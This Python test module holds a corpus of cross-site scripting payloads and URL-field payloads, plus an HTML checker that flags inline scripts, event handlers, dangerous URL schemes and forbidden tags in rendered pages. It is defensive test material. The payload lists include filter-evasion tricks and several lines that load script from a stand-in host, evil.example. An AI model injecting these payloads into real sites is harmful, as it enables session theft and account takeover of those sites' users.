"""A corpus of script-injection payloads, and an HTML checker that finds any that ran.

The payloads cover tags, attributes, event handlers, `javascript:`/`data:`/
`vbscript:` URLs, SVG and MathML, entity and encoding tricks, and broken
markup. `assert_no_script(html)` parses a page with the standard library's
HTML parser (which decodes entities in attributes, as a browser does) and
fails on anything a browser would execute.
"""

import json
import re
from html.parser import HTMLParser

XSS_PAYLOADS = [
    # Plain and broken script tags.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    # Breaking out of an attribute, a tag, a textarea, a title, a comment.
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "</script><script>alert(1)</script>",
    '</noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Event handlers on harmless tags.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    '<img src="x" onerror="alert(1)"/>',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=# onclick=alert(1)>click</a>",
    # Dangerous URLs, plain and disguised.
    "<a href=javascript:alert(1)>link</a>",
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="javascript&colon;alert(1)">colon</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Entity, encoding and parser tricks.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</script>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "{{ 7*7 }}{% debug %}<script>alert(1)</script>",
    "${alert(1)}<img src=x onerror=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<p>unclosed <b><i><img src=x onerror=alert(1)",
    "<x onclick=alert(1)>custom tag</x>",
]

# Values for URL fields (an article's source_url, a profile link): the form must
# refuse them or the page must render them harmless.
URL_PAYLOADS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/' onmouseover='alert(1)",
    'https://example.com/"onmouseover="alert(1)',
    "https://example.com/?q=<img/src/onerror=alert(1)>",
    "//evil.example/x",
]

DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcset",
    "lowsrc",
    "dynsrc",
    "ping",
    "codebase",
    "cite",
}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "math"}
# Inline scripts that are data, not code (each must parse as JSON).
JSON_SCRIPT_TYPES = {"application/ld+json", "importmap"}
# What our own templates load: same-origin static files only.
ALLOWED_SCRIPT_SRC = re.compile(r"^/(static/[\w./-]+\.js|admin/jsi18n/)$")
_URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")


def normalized_url(value):
    """A URL as a browser reads its scheme: control characters and whitespace dropped."""
    return _URL_NOISE.sub("", value or "").lower()


class _ScriptFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self._in_script = None
        self._script_text = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)
        if tag == "script":
            self._in_script = dict(attrs)
            self._script_text = []

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "script" and self._in_script is not None:
            attrs, text = self._in_script, "".join(self._script_text)
            if attrs.get("type") in JSON_SCRIPT_TYPES:
                try:
                    json.loads(text)
                except ValueError:
                    self.problems.append(f"JSON script broken open: {text[:120]!r}")
            elif text.strip():
                self.problems.append(f"inline script: {text[:120]!r}")
            self._in_script = None

    def handle_data(self, data):
        if self._in_script is not None:
            self._script_text.append(data)

    def _check(self, tag, attrs):
        where = self.getpos()
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> at {where}")
        if tag == "meta":
            names = {name for name, _ in attrs}
            if "http-equiv" in names:
                self.problems.append(f"<meta http-equiv> at {where}")
        if tag == "script":
            values = dict(attrs)
            src = values.get("src")
            kind = values.get("type")
            if src is None and kind not in JSON_SCRIPT_TYPES:
                self.problems.append(f"<script> without src at {where}")
            if src is not None and not ALLOWED_SCRIPT_SRC.match(src):
                self.problems.append(f"<script src={src!r}> at {where}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}> at {where}")
            if name == "srcdoc":
                self.problems.append(f"<{tag} srcdoc> at {where}")
            if name in URL_ATTRIBUTES or name.endswith(":href"):
                url = normalized_url(value)
                if url.startswith(DANGEROUS_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value!r}> at {where}")
                if name == "srcset" and any(s in url for s in ("javascript:", "vbscript:")):
                    self.problems.append(f"<{tag} srcset={value!r}> at {where}")
            if name == "style" and "javascript:" in normalized_url(value):
                self.problems.append(f"<{tag} style={value!r}> at {where}")


def script_problems(html):
    """Everything in `html` a browser would run: inline scripts, handlers, script URLs."""
    finder = _ScriptFinder()
    finder.feed(html)
    finder.close()
    return finder.problems


def assert_no_script(html, where=""):
    problems = script_problems(html)
    assert not problems, f"{where}: executable markup came through:\n" + "\n".join(problems)
